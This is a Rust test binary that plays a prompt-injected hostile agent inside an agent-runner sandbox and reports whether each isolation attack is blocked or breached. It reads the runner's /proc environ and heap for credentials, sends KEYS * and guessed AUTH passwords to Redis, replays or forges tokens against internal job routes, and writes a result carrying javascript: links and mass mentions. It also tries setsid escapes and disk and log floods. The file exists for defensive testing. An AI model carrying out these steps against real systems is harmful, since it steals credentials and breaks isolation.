//! A hostile agent for the isolation tests: from inside its workload it tries every attack
//! an agent prompt-injected by a stranger's ticket could try, and reports each outcome on a
//! line of its own:
//!
//! ```text
//! hostile: <attack>: blocked|neutralised|BREACHED: <what happened>
//! ```
//!
//! Some outcomes only the test can judge from outside (what the dispatcher recorded of a
//! 100 MB line, whether a victim process group survived): for those the agent reports
//! `tried: <what it did>` and the test decides.
//!
//! It reads its targets from the environment: `HOSTILE_REDIS` (`host:port` of the
//! dispatcher's Redis, as an attacker would find it), `HOSTILE_CALLBACK` (the dispatcher's
//! runner URL base, `http://host:port`), `HOSTILE_OTHER_JOB` (another job's id),
//! `HOSTILE_VICTIM_PGID` (a process group that is not its own), `HOSTILE_LINE_MB`,
//! `HOSTILE_FLOOD_MB` and `HOSTILE_FILL_MB` (sizes; 0 skips), `HOSTILE_FILL_HOLD_SECS` (how
//! long a fill that was not refused is kept), `HOSTILE_FILL_LAST` (fill after the floods). It uses only the standard
//! library, so it runs in any image with a glibc as old as the build host's.

use std::fs;
use std::io::{self, BufWriter, Read, Write};
use std::net::{TcpStream, ToSocketAddrs};
use std::process::{Command, Stdio};
use std::time::Duration;

const TIMEOUT: Duration = Duration::from_secs(3);

fn report(attack: &str, verdict: &str, detail: impl AsRef<str>) {
    // One line each, never longer than a screen: details may quote what was read.
    let detail: String = detail.as_ref().chars().take(300).collect();
    println!(
        "hostile: {attack}: {verdict}: {}",
        detail.replace('\n', " ")
    );
}

fn var(name: &str) -> Option<String> {
    std::env::var(name).ok().filter(|v| !v.is_empty())
}

fn size_mb(name: &str) -> u64 {
    var(name).and_then(|v| v.parse().ok()).unwrap_or(0)
}

fn connect(address: &str) -> io::Result<TcpStream> {
    let target = address
        .to_socket_addrs()?
        .next()
        .ok_or_else(|| io::Error::other("no address"))?;
    let stream = TcpStream::connect_timeout(&target, TIMEOUT)?;
    stream.set_read_timeout(Some(TIMEOUT))?;
    stream.set_write_timeout(Some(TIMEOUT))?;
    Ok(stream)
}

/// Sends Redis commands (inline protocol) and returns the first reply line of each.
fn redis(address: &str, commands: &[&str]) -> io::Result<Vec<String>> {
    let mut stream = connect(address)?;
    let mut replies = Vec::new();
    for command in commands {
        stream.write_all(format!("{command}\r\n").as_bytes())?;
        let mut buf = [0u8; 512];
        let n = stream.read(&mut buf)?;
        let reply = String::from_utf8_lossy(&buf[..n]);
        replies.push(reply.lines().next().unwrap_or("").to_string());
    }
    Ok(replies)
}

fn attack_redis() {
    let Some(address) = var("HOSTILE_REDIS") else {
        return report("redis", "blocked", "no Redis address to try");
    };
    match redis(&address, &["PING", "KEYS *"]) {
        Err(e) => report("redis", "blocked", format!("{address} unreachable: {e}")),
        Ok(replies)
            if replies
                .iter()
                .any(|r| r.starts_with("+PONG") || r.starts_with('*')) =>
        {
            report(
                "redis",
                "BREACHED",
                format!("{address} answered {replies:?}"),
            )
        }
        Ok(replies) => report(
            "redis",
            "blocked",
            format!("{address} answered {replies:?}"),
        ),
    }
    let guesses = [
        "AUTH redis",
        "AUTH agentsmith",
        "AUTH default ''",
        "AUTH password",
    ];
    match redis(&address, &guesses) {
        Err(e) => report("redis-guess", "blocked", format!("unreachable: {e}")),
        Ok(replies) if replies.iter().any(|r| r.starts_with("+OK")) => report(
            "redis-guess",
            "BREACHED",
            format!("a guessed password worked: {replies:?}"),
        ),
        Ok(replies) => report("redis-guess", "blocked", format!("{replies:?}")),
    }
}

/// The process that started this one (the runner).
fn parent() -> String {
    fs::read_to_string("/proc/self/stat")
        .ok()
        .and_then(|stat| {
            let after = stat.rsplit_once(')')?.1.to_string();
            after.split_whitespace().nth(1).map(str::to_string)
        })
        .unwrap_or_else(|| "1".into())
}

/// The runner's credential, if an environment the agent can read holds it.
fn read_environ(attack: &str, pid: &str) -> Option<String> {
    match fs::read(format!("/proc/{pid}/environ")) {
        Err(e) => {
            report(attack, "blocked", format!("/proc/{pid}/environ: {e}"));
            None
        }
        Ok(bytes) => {
            let text = String::from_utf8_lossy(&bytes);
            let vars: Vec<&str> = text.split('\0').collect();
            let token_like: Vec<&&str> = vars
                .iter()
                .filter(|v| !v.starts_with("HOSTILE_"))
                .filter(|v| v.contains("TOKEN") || v.contains("REDIS") || v.contains("SECRET"))
                .collect();
            let credential = vars
                .iter()
                .find_map(|v| v.strip_prefix("AGENTSMITH_JOB_CREDENTIAL="))
                .map(str::to_string);
            if token_like.is_empty() {
                report(
                    attack,
                    "neutralised",
                    format!(
                        "/proc/{pid}/environ readable, {} variables, no token, Redis or secret; credential {}",
                        vars.len(),
                        if credential.is_some() { "present (judged by credential-replay)" } else { "absent" }
                    ),
                );
            } else {
                report(
                    attack,
                    "BREACHED",
                    format!("/proc/{pid}/environ holds {token_like:?}"),
                );
            }
            credential
        }
    }
}

fn attack_memory(pid: &str) {
    let maps = fs::read_to_string(format!("/proc/{pid}/maps"));
    let mem = fs::File::open(format!("/proc/{pid}/mem"));
    match (maps, mem) {
        (Ok(maps), Ok(mut mem)) => {
            let heap = maps.lines().find(|l| l.contains("[heap]")).unwrap_or("");
            let start = heap
                .split('-')
                .next()
                .and_then(|a| u64::from_str_radix(a, 16).ok());
            let mut buf = vec![0u8; 4096];
            let read = start.map(|s| {
                use std::io::{Seek, SeekFrom};
                mem.seek(SeekFrom::Start(s))
                    .and_then(|_| mem.read(&mut buf))
            });
            match read {
                Some(Ok(n)) => report(
                    "runner-memory",
                    "BREACHED",
                    format!("read {n} bytes of the runner's heap"),
                ),
                Some(Err(e)) => report(
                    "runner-memory",
                    "blocked",
                    format!("reading /proc/{pid}/mem: {e}"),
                ),
                None => report("runner-memory", "blocked", "no heap mapping visible"),
            }
        }
        (Err(e), _) => report("runner-memory", "blocked", format!("/proc/{pid}/maps: {e}")),
        (_, Err(e)) => report("runner-memory", "blocked", format!("/proc/{pid}/mem: {e}")),
    }
}

/// POSTs JSON to the dispatcher over plain HTTP; the status code and the body's start.
fn post(base: &str, path: &str, bearer: &str, body: &str) -> io::Result<(u16, String)> {
    let host = base.trim_start_matches("http://").trim_end_matches('/');
    let mut stream = connect(host)?;
    let request = format!(
        "POST {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {bearer}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    stream.write_all(request.as_bytes())?;
    let mut reply = String::new();
    let _ = stream.read_to_string(&mut reply);
    let status = reply
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let body = reply.split("\r\n\r\n").nth(1).unwrap_or("").to_string();
    Ok((status, body))
}

fn judged(attack: &str, outcome: io::Result<(u16, String)>, what: &str) {
    match outcome {
        Ok((status, _)) if (200..300).contains(&status) => {
            report(attack, "BREACHED", format!("{what}: answered {status}"))
        }
        Ok((status, body)) => report(
            attack,
            "blocked",
            format!("{what}: answered {status} {body}"),
        ),
        Err(e) => report(attack, "blocked", format!("{what}: {e}")),
    }
}

fn attack_runner_routes(credential: Option<String>) {
    let Some(base) = var("HOSTILE_CALLBACK") else {
        return report("runner-routes", "blocked", "no dispatcher address to try");
    };
    let job = var("AGENTSMITH_JOB_ID").unwrap_or_default();
    let attempt = var("AGENTSMITH_ATTEMPT").unwrap_or_else(|| "1".into());
    let nonce = "f".repeat(64);
    let exchange = format!(r#"{{"version":2,"attempt":{attempt},"nonce":"{nonce}"}}"#);
    match &credential {
        Some(credential) => judged(
            "credential-replay",
            post(
                &base,
                &format!("/internal/jobs/{job}/token"),
                credential,
                &exchange,
            ),
            "exchanging the runner's credential again",
        ),
        None => report(
            "credential-replay",
            "blocked",
            "no credential readable anywhere",
        ),
    }
    let forged = "0123456789abcdef".repeat(4);
    let batch = |seq: u64| {
        format!(
            r#"{{"version":2,"attempt":{attempt},"first_seq":{seq},"events":[{{"type":"log","stream":"stdout","line":"FORGED"}}]}}"#
        )
    };
    let bearer = credential.as_deref().unwrap_or(&forged);
    judged(
        "events-with-credential",
        post(
            &base,
            &format!("/internal/jobs/{job}/events"),
            bearer,
            &batch(0),
        ),
        "posting events with the credential",
    );
    judged(
        "events-forged-token",
        post(
            &base,
            &format!("/internal/jobs/{job}/events"),
            &forged,
            &batch(1_000_000),
        ),
        "posting a jump of the sequence with a forged token",
    );
    if let Some(other) = var("HOSTILE_OTHER_JOB") {
        judged(
            "other-job",
            post(
                &base,
                &format!("/internal/jobs/{other}/events"),
                bearer,
                &batch(0),
            ),
            "posting into another job",
        );
    }
}

fn write_result() {
    let Some(path) = var("AGENTSMITH_RESULT_FILE") else {
        return report("result-injection", "blocked", "no result file");
    };
    let result = r#"{"summary":"<!channel> <!here> @here @all @channel [x](javascript:alert(1)) {code}boom{code} [~accountid:123] /close","links":[{"title":"<!channel>","url":"https://ok.example|Click here> <!channel> <https://ok.example"},{"url":"javascript:alert(1)"}]}"#;
    match fs::write(&path, result) {
        Ok(()) => report(
            "result-injection",
            "tried",
            "a result with mass mentions and broken links",
        ),
        Err(e) => report(
            "result-injection",
            "tried",
            format!("cannot write the result: {e}"),
        ),
    }
}

fn attack_processes() {
    if let Some(victim) = var("HOSTILE_VICTIM_PGID") {
        let written = fs::write(".agent-pgid", &victim)
            .and_then(|_| fs::write(".agentsmith/agent-pgid", &victim).or(Ok(())));
        report(
            "pgid-file",
            "tried",
            format!("wrote {victim} into .agent-pgid: {written:?}"),
        );
    }
    let escaped = Command::new("setsid")
        .args(["-f", "sleep", "600"])
        .env("HOSTILE_ESCAPEE", "1")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    report(
        "setsid-escape",
        "tried",
        format!("setsid -f sleep 600: {escaped:?}"),
    );
}

fn print_huge_line(mb: u64) {
    let stdout = io::stdout();
    let mut out = BufWriter::with_capacity(1 << 20, stdout.lock());
    let chunk = vec![b'L'; 1 << 20];
    for _ in 0..mb {
        if out.write_all(&chunk).is_err() {
            return;
        }
    }
    let _ = out.write_all(b"\n");
    let _ = out.flush();
    drop(out);
    report(
        "huge-line",
        "tried",
        format!("printed one line of {mb} MiB"),
    );
}

fn flood(mb: u64) {
    let stdout = io::stdout();
    let mut out = BufWriter::with_capacity(1 << 20, stdout.lock());
    let mut line = vec![b'F'; 1023];
    line.push(b'\n');
    for _ in 0..mb * 1024 {
        if out.write_all(&line).is_err() {
            return;
        }
    }
    let _ = out.flush();
    drop(out);
    report("flood", "tried", format!("printed {mb} MiB in 1 KiB lines"));
}

fn fill_disk(mb: u64) {
    let chunk = vec![0u8; 1 << 20];
    let mut written = 0u64;
    let outcome = fs::File::create("fill").and_then(|mut file| {
        for _ in 0..mb {
            file.write_all(&chunk)?;
            written += 1;
        }
        file.sync_all()
    });
    // Kept a while, so a bound enforced by looking (the kubelet's) has time to look.
    if outcome.is_ok() {
        std::thread::sleep(Duration::from_secs(size_mb("HOSTILE_FILL_HOLD_SECS")));
    }
    let _ = fs::remove_file("fill");
    match outcome {
        Err(e) => report(
            "fill-disk",
            "blocked",
            format!("stopped after {written} MiB: {e}"),
        ),
        Ok(()) => report("fill-disk", "tried", format!("wrote {written} MiB")),
    }
}

fn main() {
    let runner = parent();
    let credential = read_environ("runner-environ", &runner);
    let init_credential = if runner == "1" {
        None
    } else {
        read_environ("init-environ", "1")
    };
    attack_memory(&runner);
    attack_redis();
    attack_runner_routes(credential.or(init_credential));
    write_result();
    attack_processes();
    let fill_last = var("HOSTILE_FILL_LAST").is_some();
    if !fill_last {
        fill_disk(size_mb("HOSTILE_FILL_MB"));
    }
    // Time for the report to reach the dispatcher: after the floods, lines are dropped.
    std::thread::sleep(Duration::from_secs(2));
    print_huge_line(size_mb("HOSTILE_LINE_MB"));
    flood(size_mb("HOSTILE_FLOOD_MB"));
    if fill_last {
        fill_disk(size_mb("HOSTILE_FILL_MB"));
    }
    println!("hostile: done");
}
